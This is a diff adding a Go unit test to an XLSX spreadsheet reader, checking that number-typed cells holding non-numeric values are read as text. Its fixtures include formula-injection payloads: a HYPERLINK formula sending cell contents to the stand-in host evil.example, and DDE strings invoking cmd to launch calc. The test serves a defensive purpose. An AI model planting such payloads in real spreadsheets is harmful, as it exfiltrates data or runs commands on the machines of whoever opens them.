@@ -336,3 +336,48 @@ func rewriteHeaderSize(t *testing.T, data []byte) []byte {
 	}
 	return out
 }
+
+// TestNumberCellsHoldingTextAreText reads cells stored as numbers (no
+// type, or t="n") whose value is not a number: they are the text they
+// hold, never a number that no later check looks at.
+func TestNumberCellsHoldingTextAreText(t *testing.T) {
+	data := xlsxgen.Book{Sheets: []xlsxgen.Sheet{{Name: "S", RawData: `<sheetData><row r="1">` +
+		`<c r="A1"><v>=HYPERLINK("http://evil.example/?x="&amp;A2,"Click")</v></c>` +
+		`<c r="B1" t="n"><v>@SUM(1+1)*cmd|' /C calc'!A0</v></c>` +
+		`<c r="C1"><v>-2+3+cmd|' /C calc'!A0</v></c>` +
+		`<c r="D1"><v>1050</v></c>` +
+		`<c r="E1" t="n"><v> -12.5 </v></c>` +
+		`<c r="F1"><v>1.2345678901234568E+18</v></c>` +
+		`<c r="G1"><v>INF</v></c>` +
+		`<c r="H1"><f>A1</f><v>=1+1</v></c>` +
+		`<c r="I1"><v>＝1+1</v></c>` +
+		`</row></sheetData>`}}}.Bytes()
+	var got []string
+	_, err := open(t, data).ReadSheet(0, func(r *xlsx.Row) error {
+		for _, c := range r.Cells {
+			kind := "number"
+			if c.Type == xlsx.String {
+				kind = "text"
+			}
+			got = append(got, fmt.Sprintf("%s=%s %q", xlsx.ColumnName(c.Col), kind, c.Value))
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{
+		`A=text "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")"`,
+		`B=text "@SUM(1+1)*cmd|' /C calc'!A0"`,
+		`C=text "-2+3+cmd|' /C calc'!A0"`,
+		`D=number "1050"`,
+		`E=number "-12.5"`,
+		`F=number "1.2345678901234568E+18"`,
+		`G=text "INF"`,
+		`H=text "=1+1"`,
+		`I=text "＝1+1"`,
+	}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("cells:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+}
